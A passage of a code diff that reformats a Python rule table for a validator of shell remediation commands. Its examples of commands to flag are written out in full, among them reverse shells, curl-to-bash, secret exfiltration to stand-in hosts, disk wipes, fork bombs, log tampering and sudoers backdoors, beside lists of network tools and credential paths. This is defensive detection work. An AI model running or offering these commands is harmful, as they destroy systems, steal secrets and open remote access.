@@ -28,24 +28,43 @@ class RuleSpec:
     not_match: tuple[str, ...] = ()
 
 
-C, H, M, L, I = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
+C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
 
 RULES: dict[str, RuleSpec] = {
     "bash.rm_root": RuleSpec(
         C,
         "Recursive delete of /, a top-level directory, a home directory or a glob over them.",
         "Delete a literal, scoped path such as /var/cache/app/tmp; never / or a top-level directory.",
-        ("rm -rf /", "rm -fr /*", "rm -r -f --no-preserve-root /", "rm -rf //", "rm -rf /tmp/../etc", "rm -rf ~",
-         'rm -rf "$HOME"', "rm --recursive --force /usr", "for d in /etc /var; do rm -rf $d; done"),
-        ("rm -rf /var/cache/app/*", 'rm -rf "${DIR:?}/cache"', "rm -rf ./node_modules dist", "rm -f /tmp/x.lock",
-         "rm -rf ~/.cache/pip"),
+        (
+            "rm -rf /",
+            "rm -fr /*",
+            "rm -r -f --no-preserve-root /",
+            "rm -rf //",
+            "rm -rf /tmp/../etc",
+            "rm -rf ~",
+            'rm -rf "$HOME"',
+            "rm --recursive --force /usr",
+            "for d in /etc /var; do rm -rf $d; done",
+        ),
+        (
+            "rm -rf /var/cache/app/*",
+            'rm -rf "${DIR:?}/cache"',
+            "rm -rf ./node_modules dist",
+            "rm -f /tmp/x.lock",
+            "rm -rf ~/.cache/pip",
+        ),
     ),
     "bash.rm_system_path": RuleSpec(
         H,
         "Delete of a critical system file or directory (/etc/passwd, /var/lib, /boot, database data).",
         "Remove only the application's own files; system files are changed by their package tools.",
-        ("rm -f /etc/passwd", "rm -rf /var/lib/postgresql/data", "rm -rf /var/log", "rm -rf /var/spool/cron",
-         "rm -rf /usr/lib/x86_64-linux-gnu"),
+        (
+            "rm -f /etc/passwd",
+            "rm -rf /var/lib/postgresql/data",
+            "rm -rf /var/log",
+            "rm -rf /var/spool/cron",
+            "rm -rf /usr/lib/x86_64-linux-gnu",
+        ),
         ("rm -rf /var/lib/app/tmp", "rm -f /var/log/app/old.log", "rm /etc/nginx/sites-enabled/old.conf"),
     ),
     "bash.rm_unguarded_var": RuleSpec(
@@ -73,17 +92,29 @@ RULES: dict[str, RuleSpec] = {
         C,
         "find that deletes (-delete, -exec rm) starting at / or a system directory.",
         "Start find at the application directory and bound it with -name/-mtime predicates.",
-        ("find / -name '*.log' -delete", "find / -type f -exec rm -f {} +", "find /etc -delete",
-         "find / | xargs rm -rf"),
-        ("find /var/log/app -name '*.gz' -mtime +14 -delete", "find /tmp -maxdepth 1 -name 'job-*' -mmin +60 -delete",
-         "find / -name core -print"),
+        (
+            "find / -name '*.log' -delete",
+            "find / -type f -exec rm -f {} +",
+            "find /etc -delete",
+            "find / | xargs rm -rf",
+        ),
+        (
+            "find /var/log/app -name '*.gz' -mtime +14 -delete",
+            "find /tmp -maxdepth 1 -name 'job-*' -mmin +60 -delete",
+            "find / -name core -print",
+        ),
     ),
     "bash.chmod_chown_root": RuleSpec(
         C,
         "Recursive chmod/chown/chgrp of / or a system directory, or world-writable system files.",
         "Change permissions on the application's own files only; tighten, do not loosen.",
-        ("chmod -R 777 /", "chown -R nobody:nogroup /", "chmod 666 /etc/shadow", "chown -R user /etc",
-         "chmod -R o+w /usr"),
+        (
+            "chmod -R 777 /",
+            "chown -R nobody:nogroup /",
+            "chmod 666 /etc/shadow",
+            "chown -R user /etc",
+            "chmod -R o+w /usr",
+        ),
         ("chmod 600 ~/.ssh/id_ed25519", "chown -R app:app /var/lib/app", "chmod 755 /opt/app/bin/run.sh"),
     ),
     "bash.setuid": RuleSpec(
@@ -97,20 +128,42 @@ RULES: dict[str, RuleSpec] = {
         C,
         "Writes to, formats, partitions or wipes a block device (dd of=/dev/sdX, mkfs, wipefs, fdisk, > /dev/sda).",
         "Never write raw devices from a remediation; hand disk work to a human with the device verified.",
-        ("dd if=/dev/zero of=/dev/sda bs=1M", "mkfs.ext4 /dev/sdb1", "wipefs -a /dev/sdb", "echo x > /dev/nvme0n1",
-         "cat img > /dev/sda", "fdisk /dev/sda", "parted /dev/sda rm 1", "blkdiscard /dev/sda",
-         "shred -n3 /dev/sda", "mkfs -t xfs /dev/vdb"),
-        ("dd if=/dev/zero of=/swapfile bs=1M count=2048", "mkswap /swapfile", "echo hi > /dev/null",
-         "parted -l", "fdisk -l"),
+        (
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            "mkfs.ext4 /dev/sdb1",
+            "wipefs -a /dev/sdb",
+            "echo x > /dev/nvme0n1",
+            "cat img > /dev/sda",
+            "fdisk /dev/sda",
+            "parted /dev/sda rm 1",
+            "blkdiscard /dev/sda",
+            "shred -n3 /dev/sda",
+            "mkfs -t xfs /dev/vdb",
+        ),
+        (
+            "dd if=/dev/zero of=/swapfile bs=1M count=2048",
+            "mkswap /swapfile",
+            "echo hi > /dev/null",
+            "parted -l",
+            "fdisk -l",
+        ),
     ),
     "bash.data_destruction": RuleSpec(
         H,
         "Irreversibly destroys data files (shred, truncating database files, moving system dirs away).",
         "Back up and remove only what the RCA names; use the service's own tooling for data cleanup.",
-        ("shred -n3 -u /var/lib/postgresql/data/base/1", "truncate -s 0 /var/lib/mysql/ibdata1", "mv /etc /tmp/x",
-         "cp /dev/null /etc/passwd", "mv app.conf /dev/null"),
-        ("truncate -s 0 /var/log/app/huge.log", "mv /etc/app/app.conf /etc/app/app.conf.bak",
-         "cp /etc/app/app.conf /tmp/backup.conf"),
+        (
+            "shred -n3 -u /var/lib/postgresql/data/base/1",
+            "truncate -s 0 /var/lib/mysql/ibdata1",
+            "mv /etc /tmp/x",
+            "cp /dev/null /etc/passwd",
+            "mv app.conf /dev/null",
+        ),
+        (
+            "truncate -s 0 /var/log/app/huge.log",
+            "mv /etc/app/app.conf /etc/app/app.conf.bak",
+            "cp /etc/app/app.conf /tmp/backup.conf",
+        ),
     ),
     "bash.overwrite_critical_file": RuleSpec(
         C,
@@ -123,26 +176,46 @@ RULES: dict[str, RuleSpec] = {
         C,
         "Fork bomb or unbounded process/disk exhaustion.",
         "Remove it.",
-        (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "cat /dev/urandom > /var/fill", "yes > /dev/null &",
-         "fallocate -l 1T /data/x"),
+        (
+            ":(){ :|:& };:",
+            "bomb() { bomb | bomb & }; bomb",
+            "cat /dev/urandom > /var/fill",
+            "yes > /dev/null &",
+            "fallocate -l 1T /data/x",
+        ),
         ("f() { echo hi; }; f", "fallocate -l 2G /swapfile", "head -c 16 /dev/urandom | base64"),
     ),
     "bash.pipe_to_shell": RuleSpec(
         C,
         "Downloaded text run by a shell or interpreter (curl | sh, bash <(curl ...), eval $(wget -O- ...)).",
         "Download to a file, verify its checksum or signature, review it, then run the reviewed file.",
-        ("curl -fsSL http://x/i.sh | bash", "wget -qO- http://x | sh", "bash <(curl -s http://x)",
-         "curl http://x | sudo -E bash", "curl -s http://x | python3", 'sh -c "$(curl -fsSL http://x)"',
-         "source <(curl -s http://x)", "curl -o /tmp/i.sh http://x; bash /tmp/i.sh"),
-        ("curl -fsS http://localhost:8080/healthz", "curl -o /tmp/pkg.tgz https://repo/p.tgz && sha256sum -c p.sha256",
-         "curl -s http://x | jq .status"),
+        (
+            "curl -fsSL http://x/i.sh | bash",
+            "wget -qO- http://x | sh",
+            "bash <(curl -s http://x)",
+            "curl http://x | sudo -E bash",
+            "curl -s http://x | python3",
+            'sh -c "$(curl -fsSL http://x)"',
+            "source <(curl -s http://x)",
+            "curl -o /tmp/i.sh http://x; bash /tmp/i.sh",
+        ),
+        (
+            "curl -fsS http://localhost:8080/healthz",
+            "curl -o /tmp/pkg.tgz https://repo/p.tgz && sha256sum -c p.sha256",
+            "curl -s http://x | jq .status",
+        ),
     ),
     "bash.decode_to_shell": RuleSpec(
         C,
         "Decoded or constructed text run by a shell (base64 -d | sh, xxd -r | bash, printf escapes | sh).",
         "Write the commands out in plain text; encoded payloads cannot be reviewed.",
-        ("echo cm0gLXJmIC8K | base64 -d | sh", 'eval "$(echo ZWNobwo= | base64 -d)"', "xxd -r -p <<< 6c73 | bash",
-         "gzip -dc payload.gz | bash", "printf '\\162\\155 -rf /' | sh"),
+        (
+            "echo cm0gLXJmIC8K | base64 -d | sh",
+            'eval "$(echo ZWNobwo= | base64 -d)"',
+            "xxd -r -p <<< 6c73 | bash",
+            "gzip -dc payload.gz | bash",
+            "printf '\\162\\155 -rf /' | sh",
+        ),
         ("echo aGVsbG8= | base64 -d", "gzip -dc /var/log/app/x.gz | grep ERROR"),
     ),
     "bash.eval_dynamic": RuleSpec(
@@ -150,20 +223,26 @@ RULES: dict[str, RuleSpec] = {
         "eval, source, bash -c or a shell reading text that is only known at run time.",
         "Write the commands literally; if a file must be sourced, use a fixed, reviewed path.",
         ('eval "$CMD"', 'source "$F"', '. "$F"', 'bash -c "$1"', "cat /tmp/cmds | sh", "sh -c $(cat x)"),
-        ("eval \"$(ssh-agent -s)\"", ". /etc/os-release", "bash -c 'echo hi'", "source /opt/app/env.sh"),
+        ('eval "$(ssh-agent -s)"', ". /etc/os-release", "bash -c 'echo hi'", "source /opt/app/env.sh"),
     ),
     "bash.dynamic_command": RuleSpec(
         H,
         "The command name comes from a variable, command substitution, array or glob that is not resolvable.",
         "Call commands by their literal names.",
-        ('$CMD -rf /tmp/x', '"${cmds[@]}"', "$(get_tool) --force", "/???/?m -rf /tmp/x", '${!name} x'),
+        ("$CMD -rf /tmp/x", '"${cmds[@]}"', "$(get_tool) --force", "/???/?m -rf /tmp/x", "${!name} x"),
         ("c=systemctl; $c restart nginx", 'cmd=(systemctl restart nginx); "${cmd[@]}"'),
     ),
     "bash.obfuscated_command": RuleSpec(
         M,
         "The command name is spelled with quote splitting, escapes, decoding or word-splitting tricks.",
         "Write the command name plainly; obfuscated names are how payloads slip past review.",
-        ("r''m -f /tmp/x", "$'\\x6c\\x73' /tmp", "$(printf '\\154\\163') /tmp", "l\\s /tmp", "x=(l s); ${x[0]}${x[1]} /"),
+        (
+            "r''m -f /tmp/x",
+            "$'\\x6c\\x73' /tmp",
+            "$(printf '\\154\\163') /tmp",
+            "l\\s /tmp",
+            "x=(l s); ${x[0]}${x[1]} /",
+        ),
         ("\\rm -f /tmp/x", "ls /tmp", "command -v ls"),
     ),
     "bash.non_ascii_command": RuleSpec(
@@ -184,63 +263,113 @@ RULES: dict[str, RuleSpec] = {
         C,
         "Reverse or bind shell: /dev/tcp redirection, nc -e, socat exec, interpreter socket + pty.",
         "Remove it; remediations never open interactive shells to remote hosts.",
-        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "socat exec:'bash -li',pty tcp:h:4444",
-         "exec 3</dev/tcp/h/80", "ncat --sh-exec /bin/bash h 4444", "mkfifo /tmp/f; nc h 4444 < /tmp/f | sh > /tmp/f"),
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "socat exec:'bash -li',pty tcp:h:4444",
+            "exec 3</dev/tcp/h/80",
+            "ncat --sh-exec /bin/bash h 4444",
+            "mkfifo /tmp/f; nc h 4444 < /tmp/f | sh > /tmp/f",
+        ),
         ("nc -z localhost 5432", "socat - TCP:localhost:8080"),
     ),
     "bash.secret_read": RuleSpec(
         H,
         "Reads secrets: /etc/shadow, private SSH keys, /proc/*/environ, cloud credentials, printenv.",
         "Do not read credentials in a remediation; reference them through the secret store instead.",
-        ("cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat /proc/1/environ", "printenv | grep -i token",
-         "cp ~/.aws/credentials /tmp/c"),
+        (
+            "cat /etc/shadow",
+            "cat ~/.ssh/id_rsa",
+            "cat /proc/1/environ",
+            "printenv | grep -i token",
+            "cp ~/.aws/credentials /tmp/c",
+        ),
         ("chmod 600 ~/.ssh/id_ed25519", "cat ~/.ssh/id_ed25519.pub", "printenv HOME", "ls -l /etc/shadow"),
     ),
     "bash.exfiltration": RuleSpec(
         C,
         "Sends secrets or local files off the host (curl -F @/etc/shadow, tar ~/.ssh | nc, scp keys).",
         "Remove it; a remediation has no reason to upload host files.",
-        ("curl -F f=@/etc/shadow https://x", "tar cz ~/.ssh | nc h 4444", "scp ~/.aws/credentials h:",
-         "printenv | curl -d @- http://x", "curl --data-binary @/root/.ssh/id_rsa http://x"),
+        (
+            "curl -F f=@/etc/shadow https://x",
+            "tar cz ~/.ssh | nc h 4444",
+            "scp ~/.aws/credentials h:",
+            "printenv | curl -d @- http://x",
+            "curl --data-binary @/root/.ssh/id_rsa http://x",
+        ),
         ("curl -fsS -d '{\"ok\":true}' http://localhost:8080/hook", "scp build.tgz deploy@host:/srv/"),
     ),
     "bash.history_tamper": RuleSpec(
         H,
         "Anti-forensics: clears shell history, login records or audit logs.",
         "Leave history and audit logs alone; rotate logs with logrotate or journalctl --vacuum-*.",
-        ("history -c", "unset HISTFILE", "export HISTSIZE=0", "rm ~/.bash_history", "> /var/log/wtmp",
-         "echo > /var/log/audit/audit.log", "ln -sf /dev/null ~/.bash_history", "set +o history"),
+        (
+            "history -c",
+            "unset HISTFILE",
+            "export HISTSIZE=0",
+            "rm ~/.bash_history",
+            "> /var/log/wtmp",
+            "echo > /var/log/audit/audit.log",
+            "ln -sf /dev/null ~/.bash_history",
+            "set +o history",
+        ),
         ("journalctl --vacuum-time=7d", "history | tail -5", "logrotate -f /etc/logrotate.d/app"),
     ),
     "bash.audit_disable": RuleSpec(
         H,
         "Disables auditing or system logging (auditctl -D/-e 0, stopping auditd/rsyslog/journald).",
         "Keep auditing on; restart the logging service instead of stopping it if it misbehaves.",
-        ("auditctl -D", "auditctl -e 0", "systemctl stop auditd", "service rsyslog stop", "systemctl mask systemd-journald"),
+        (
+            "auditctl -D",
+            "auditctl -e 0",
+            "systemctl stop auditd",
+            "service rsyslog stop",
+            "systemctl mask systemd-journald",
+        ),
         ("systemctl restart rsyslog", "auditctl -l"),
     ),
     "bash.firewall_disable": RuleSpec(
         H,
         "Flushes or opens the firewall (iptables -F, -P ACCEPT, nft flush ruleset, ufw disable, stop firewalld).",
         "Add narrow rules (iptables -I INPUT -s 203.0.113.7 -j DROP); never flush or change default policy.",
-        ("iptables -F", "iptables -P INPUT ACCEPT", "nft flush ruleset", "ufw disable", "systemctl stop firewalld",
-         "iptables --flush", "ufw --force reset"),
+        (
+            "iptables -F",
+            "iptables -P INPUT ACCEPT",
+            "nft flush ruleset",
+            "ufw disable",
+            "systemctl stop firewalld",
+            "iptables --flush",
+            "ufw --force reset",
+        ),
         ("iptables -I INPUT -s 203.0.113.7 -j DROP", "ufw deny from 203.0.113.7", "iptables -L -n"),
     ),
     "bash.mac_disable": RuleSpec(
         H,
         "Disables SELinux or AppArmor.",
         "Fix the policy denial (audit2allow, a boolean) instead of disabling mandatory access control.",
-        ("setenforce 0", "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", "systemctl stop apparmor",
-         "aa-teardown"),
+        (
+            "setenforce 0",
+            "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
+            "systemctl stop apparmor",
+            "aa-teardown",
+        ),
         ("getenforce", "sestatus", "setsebool -P httpd_can_network_connect 1"),
     ),
     "bash.power_state": RuleSpec(
         C,
         "Shuts down, reboots or halts the host (shutdown, reboot, init 0, sysrq, systemctl isolate rescue).",
         "Restart the failing service, not the host; host reboots go through maintenance windows.",
-        ("shutdown -h now", "reboot", "poweroff", "halt", "init 0", "systemctl reboot", "echo b > /proc/sysrq-trigger",
-         "systemctl isolate rescue.target", "telinit 6"),
+        (
+            "shutdown -h now",
+            "reboot",
+            "poweroff",
+            "halt",
+            "init 0",
+            "systemctl reboot",
+            "echo b > /proc/sysrq-trigger",
+            "systemctl isolate rescue.target",
+            "telinit 6",
+        ),
         ("systemctl restart nginx", "echo 'reboot required' >> /tmp/notes", "last reboot"),
     ),
     "bash.kill_all": RuleSpec(
@@ -248,47 +377,72 @@ RULES: dict[str, RuleSpec] = {
         "Kills every process (kill -9 -1), init, or whole classes of processes (killall, pkill -u root).",
         "Signal one scoped PID (kill -HUP $(cat /run/nginx.pid)) or one pattern (pkill -f 'celery worker -Q slow').",
         ("kill -9 -1", "kill -KILL -1", "killall5 -9", "pkill -9 -u root", "killall -9 java", "kill -9 1"),
-        ("kill -HUP $(cat /run/nginx.pid)", "pkill -f 'celery worker -Q slow'", "kill -9 12345",
-         "killall -HUP nginx"),
+        ("kill -HUP $(cat /run/nginx.pid)", "pkill -f 'celery worker -Q slow'", "kill -9 12345", "killall -HUP nginx"),
     ),
     "bash.remote_lockout": RuleSpec(
         H,
         "Cuts remote access: stops/masks sshd, takes network interfaces or routes down.",
         "Restart sshd instead of stopping it; change network config through a tested, reversible path.",
-        ("systemctl stop sshd", "systemctl mask ssh", "ip link set eth0 down", "ip route del default", "ifdown eth0",
-         "nmcli networking off"),
+        (
+            "systemctl stop sshd",
+            "systemctl mask ssh",
+            "ip link set eth0 down",
+            "ip route del default",
+            "ifdown eth0",
+            "nmcli networking off",
+        ),
         ("systemctl restart sshd", "ip link show", "ip route show"),
     ),
     "bash.account_change": RuleSpec(
         H,
         "Deletes, locks or escalates user accounts, or edits /etc/passwd, /etc/shadow, /etc/group directly.",
         "Account changes are not remediations; open a change request.",
-        ("userdel -r admin", "passwd -d root", "usermod -L ops", "sed -i '/^root/d' /etc/passwd", "usermod -aG sudo x",
-         "useradd -o -u 0 backdoor", "echo 'root:x' | chpasswd"),
+        (
+            "userdel -r admin",
+            "passwd -d root",
+            "usermod -L ops",
+            "sed -i '/^root/d' /etc/passwd",
+            "usermod -aG sudo x",
+            "useradd -o -u 0 backdoor",
+            "echo 'root:x' | chpasswd",
+        ),
         ("id app", "getent passwd app"),
     ),
     "bash.sudoers": RuleSpec(
         C,
         "Writes sudoers rules (privilege grant).",
         "Never grant sudo from a remediation.",
-        ("echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "tee /etc/sudoers.d/x <<< 'x ALL=(ALL) ALL'",
-         "cp x /etc/sudoers.d/app"),
+        (
+            "echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+            "tee /etc/sudoers.d/x <<< 'x ALL=(ALL) ALL'",
+            "cp x /etc/sudoers.d/app",
+        ),
         ("visudo -c", "sudo -l"),
     ),
     "bash.ssh_keys": RuleSpec(
         C,
         "Adds SSH authorized keys or removes their immutability (SSH key injection).",
         "Manage SSH access through configuration management, not remediation scripts.",
-        ("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys", "chattr -i ~/.ssh/authorized_keys",
-         "cat key.pub | tee -a ~/.ssh/authorized_keys"),
+        (
+            "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys",
+            "chattr -i ~/.ssh/authorized_keys",
+            "cat key.pub | tee -a ~/.ssh/authorized_keys",
+        ),
         ("ssh-keygen -R old-host", "cat ~/.ssh/authorized_keys | wc -l"),
     ),
     "bash.env_injection": RuleSpec(
         C,
         "Library or startup-code injection: LD_PRELOAD, /etc/ld.so.preload, BASH_ENV, ENV, PROMPT_COMMAND, PATH.",
         "Do not set loader or shell-startup variables; call binaries by absolute path instead of editing PATH.",
-        ("export LD_PRELOAD=/tmp/x.so", "echo /tmp/x.so > /etc/ld.so.preload", "BASH_ENV=/tmp/e bash s.sh",
-         "ENV=/tmp/e sh", "export PATH=/tmp:$PATH", "export PROMPT_COMMAND='curl x'", "read BASH_ENV <<< /tmp/e"),
+        (
+            "export LD_PRELOAD=/tmp/x.so",
+            "echo /tmp/x.so > /etc/ld.so.preload",
+            "BASH_ENV=/tmp/e bash s.sh",
+            "ENV=/tmp/e sh",
+            "export PATH=/tmp:$PATH",
+            "export PROMPT_COMMAND='curl x'",
+            "read BASH_ENV <<< /tmp/e",
+        ),
         ("export PATH=/usr/local/bin:$PATH", "export LANG=C.UTF-8"),
     ),
     "bash.startup_file": RuleSpec(
@@ -309,8 +463,12 @@ RULES: dict[str, RuleSpec] = {
         H,
         "Wipes crontabs or installs cron persistence.",
         "Schedule jobs through configuration management, not a remediation.",
-        ("crontab -r", "(crontab -l; echo '* * * * * x') | crontab -", "echo '* * * * * root x' > /etc/cron.d/x",
-         "crontab /tmp/cron.txt"),
+        (
+            "crontab -r",
+            "(crontab -l; echo '* * * * * x') | crontab -",
+            "echo '* * * * * root x' > /etc/cron.d/x",
+            "crontab /tmp/cron.txt",
+        ),
         ("crontab -l",),
     ),
     "bash.deferred_execution": RuleSpec(
@@ -324,14 +482,31 @@ RULES: dict[str, RuleSpec] = {
         H,
         "Destructive infrastructure CLI: kubectl delete ns/--all, dropdb, FLUSHALL, terraform destroy, helm uninstall.",
         "Use the narrow remediation (rollout restart/undo, delete one named pod, helm rollback).",
-        ("kubectl delete ns prod", "kubectl delete all --all -A", "kubectl delete pvc --all", "helm uninstall db",
-         "terraform destroy -auto-approve", "aws s3 rm s3://b --recursive", "docker system prune -a --volumes -f",
-         "redis-cli FLUSHALL", "dropdb prod", "git push --force origin main", "kubectl scale deploy web --replicas=0",
-         "git -C / reset --hard"),
-        ("kubectl rollout restart deployment/web -n prod", "kubectl delete pod web-7d9f-x -n prod",
-         "kubectl scale deploy web --replicas=6", "helm rollback web 41", "docker image prune -f",
-         "kubectl delete namespace preview-pr-1234", "kubectl delete pod --field-selector=status.phase==Failed -n jobs",
-         "git push --force-with-lease", "redis-cli PING"),
+        (
+            "kubectl delete ns prod",
+            "kubectl delete all --all -A",
+            "kubectl delete pvc --all",
+            "helm uninstall db",
+            "terraform destroy -auto-approve",
+            "aws s3 rm s3://b --recursive",
+            "docker system prune -a --volumes -f",
+            "redis-cli FLUSHALL",
+            "dropdb prod",
+            "git push --force origin main",
+            "kubectl scale deploy web --replicas=0",
+            "git -C / reset --hard",
+        ),
+        (
+            "kubectl rollout restart deployment/web -n prod",
+            "kubectl delete pod web-7d9f-x -n prod",
+            "kubectl scale deploy web --replicas=6",
+            "helm rollback web 41",
+            "docker image prune -f",
+            "kubectl delete namespace preview-pr-1234",
+            "kubectl delete pod --field-selector=status.phase==Failed -n jobs",
+            "git push --force-with-lease",
+            "redis-cli PING",
+        ),
     ),
     "bash.critical_service_stop": RuleSpec(
         M,
@@ -365,8 +540,13 @@ RULES: dict[str, RuleSpec] = {
         H,
         "Inline perl/ruby/node/php/awk/sed code that runs system commands.",
         "Use plain shell commands the validator can read.",
-        ("perl -e 'system(\"id\")'", "awk 'BEGIN{system(\"id\")}'", "sed '1e id' f", "ruby -e '`id`'",
-         "tar -cf /dev/null x --checkpoint-action=exec=sh"),
+        (
+            "perl -e 'system(\"id\")'",
+            "awk 'BEGIN{system(\"id\")}'",
+            "sed '1e id' f",
+            "ruby -e '`id`'",
+            "tar -cf /dev/null x --checkpoint-action=exec=sh",
+        ),
         ("perl -pi -e 's/a/b/' /etc/app/app.conf", "awk '{print $1}' /var/log/app/x.log", "sed -i 's/a/b/' f"),
     ),
     "bash.remote_command": RuleSpec(
@@ -398,65 +578,331 @@ SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcs
 PYTHONS = re.compile(r"^(python|python[23](\.\d+)?|pypy3?)$")
 OTHER_INTERPRETERS = {"perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "Rscript", "deno", "bun", "osascript"}
 DOWNLOADERS = {"curl", "wget", "fetch", "aria2c", "lwp-download", "lwp-request", "GET", "tftp", "http", "xh"}
-DECODERS = {"base64", "base32", "xxd", "openssl", "gzip", "gunzip", "zcat", "bzcat", "xzcat", "uudecode", "rev",
-            "tr", "bzip2", "xz", "zstd", "unzstd", "lzcat"}
-NETWORK_SENDERS = {"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "rsync", "ssh", "ftp",
-                   "mail", "sendmail", "mailx", "http", "xh"}
+DECODERS = {
+    "base64",
+    "base32",
+    "xxd",
+    "openssl",
+    "gzip",
+    "gunzip",
+    "zcat",
+    "bzcat",
+    "xzcat",
+    "uudecode",
+    "rev",
+    "tr",
+    "bzip2",
+    "xz",
+    "zstd",
+    "unzstd",
+    "lzcat",
+}
+NETWORK_SENDERS = {
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "scp",
+    "sftp",
+    "rsync",
+    "ssh",
+    "ftp",
+    "mail",
+    "sendmail",
+    "mailx",
+    "http",
+    "xh",
+}
 PIPE_PASSTHROUGH = {"tee", "cat", "dd", "pv", "buffer"}
-READERS = {"cat", "less", "more", "head", "tail", "cp", "tar", "zip", "gzip", "base64", "xxd", "od", "strings",
-           "grep", "egrep", "awk", "sed", "dd", "openssl", "gpg", "scp", "rsync", "curl", "nc", "tac", "nl", "vi",
-           "vim", "nano", "python", "python3", "install", "sort", "uniq", "cut"}
+READERS = {
+    "cat",
+    "less",
+    "more",
+    "head",
+    "tail",
+    "cp",
+    "tar",
+    "zip",
+    "gzip",
+    "base64",
+    "xxd",
+    "od",
+    "strings",
+    "grep",
+    "egrep",
+    "awk",
+    "sed",
+    "dd",
+    "openssl",
+    "gpg",
+    "scp",
+    "rsync",
+    "curl",
+    "nc",
+    "tac",
+    "nl",
+    "vi",
+    "vim",
+    "nano",
+    "python",
+    "python3",
+    "install",
+    "sort",
+    "uniq",
+    "cut",
+}
 
 SECRET_PATTERNS = (
-    "/etc/shadow", "/etc/gshadow", "/etc/shadow-", "*/.ssh/id_*", "~/.ssh/id_*", "/proc/*/environ", "*/.aws/credentials",
-    "~/.aws/credentials", "*/.kube/config", "~/.kube/config", "/etc/kubernetes/admin.conf", "/etc/ssl/private/*",
-    "*/.docker/config.json", "~/.docker/config.json", "*/.netrc", "~/.netrc", "*/.pgpass", "~/.pgpass",
-    "/var/run/secrets/kubernetes.io/serviceaccount/*", "/run/secrets/*", "*/.git-credentials", "~/.git-credentials",
-    "*/.vault-token", "~/.vault-token", "/etc/rancher/k3s/k3s.yaml", "*/.gnupg/*", "~/.gnupg/*",
+    "/etc/shadow",
+    "/etc/gshadow",
+    "/etc/shadow-",
+    "*/.ssh/id_*",
+    "~/.ssh/id_*",
+    "/proc/*/environ",
+    "*/.aws/credentials",
+    "~/.aws/credentials",
+    "*/.kube/config",
+    "~/.kube/config",
+    "/etc/kubernetes/admin.conf",
+    "/etc/ssl/private/*",
+    "*/.docker/config.json",
+    "~/.docker/config.json",
+    "*/.netrc",
+    "~/.netrc",
+    "*/.pgpass",
+    "~/.pgpass",
+    "/var/run/secrets/kubernetes.io/serviceaccount/*",
+    "/run/secrets/*",
+    "*/.git-credentials",
+    "~/.git-credentials",
+    "*/.vault-token",
+    "~/.vault-token",
+    "/etc/rancher/k3s/k3s.yaml",
+    "*/.gnupg/*",
+    "~/.gnupg/*",
 )
 SENSITIVE_DIRS = ("~/.ssh", "/root/.ssh", "~/.aws", "~/.gnupg", "/etc/ssl/private", "~", "/root")
 
 CRITICAL_FILES = {
-    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/fstab", "/etc/crypttab", "/etc/inittab",
-    "/etc/pam.d", "/etc/ssh/sshd_config", "/etc/login.defs", "/etc/nsswitch.conf", "/etc/securetty",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/group",
+    "/etc/gshadow",
+    "/etc/fstab",
+    "/etc/crypttab",
+    "/etc/inittab",
+    "/etc/pam.d",
+    "/etc/ssh/sshd_config",
+    "/etc/login.defs",
+    "/etc/nsswitch.conf",
+    "/etc/securetty",
 }
-TOP_LEVEL = {"bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "libx32", "media", "mnt", "opt", "proc",
-             "root", "run", "sbin", "srv", "sys", "tmp", "usr", "var", "snap", "nix"}
+TOP_LEVEL = {
+    "bin",
+    "boot",
+    "dev",
+    "etc",
+    "home",
+    "lib",
+    "lib32",
+    "lib64",
+    "libx32",
+    "media",
+    "mnt",
+    "opt",
+    "proc",
+    "root",
+    "run",
+    "sbin",
+    "srv",
+    "sys",
+    "tmp",
+    "usr",
+    "var",
+    "snap",
+    "nix",
+}
 PROTECTED_DIRS = {
-    "/var/lib", "/var/log", "/var/spool", "/var/spool/cron", "/var/backups", "/var/mail", "/var/www", "/var/opt",
-    "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/lib64", "/usr/local", "/usr/share", "/usr/include", "/usr/libexec",
-    "/usr/local/bin", "/usr/local/lib", "/etc/ssh", "/etc/pam.d", "/etc/systemd", "/etc/ssl", "/etc/default",
-    "/etc/init.d", "/etc/sudoers.d", "/etc/cron.d", "/etc/kubernetes", "/root/.ssh", "/boot/grub", "/boot/efi",
-    "/var/lib/postgresql", "/var/lib/mysql", "/var/lib/docker", "/var/lib/etcd", "/var/lib/kubelet",
-    "/var/lib/containerd", "/var/lib/dpkg", "/var/lib/rpm", "/var/lib/apt", "/var/lib/redis", "/var/lib/mongodb",
-    "/var/lib/elasticsearch", "/var/lib/rabbitmq", "/var/log/audit", "/var/log/journal", "/lib/modules",
-    "/usr/lib/modules", "/lib/systemd",
+    "/var/lib",
+    "/var/log",
+    "/var/spool",
+    "/var/spool/cron",
+    "/var/backups",
+    "/var/mail",
+    "/var/www",
+    "/var/opt",
+    "/usr/bin",
+    "/usr/sbin",
+    "/usr/lib",
+    "/usr/lib64",
+    "/usr/local",
+    "/usr/share",
+    "/usr/include",
+    "/usr/libexec",
+    "/usr/local/bin",
+    "/usr/local/lib",
+    "/etc/ssh",
+    "/etc/pam.d",
+    "/etc/systemd",
+    "/etc/ssl",
+    "/etc/default",
+    "/etc/init.d",
+    "/etc/sudoers.d",
+    "/etc/cron.d",
+    "/etc/kubernetes",
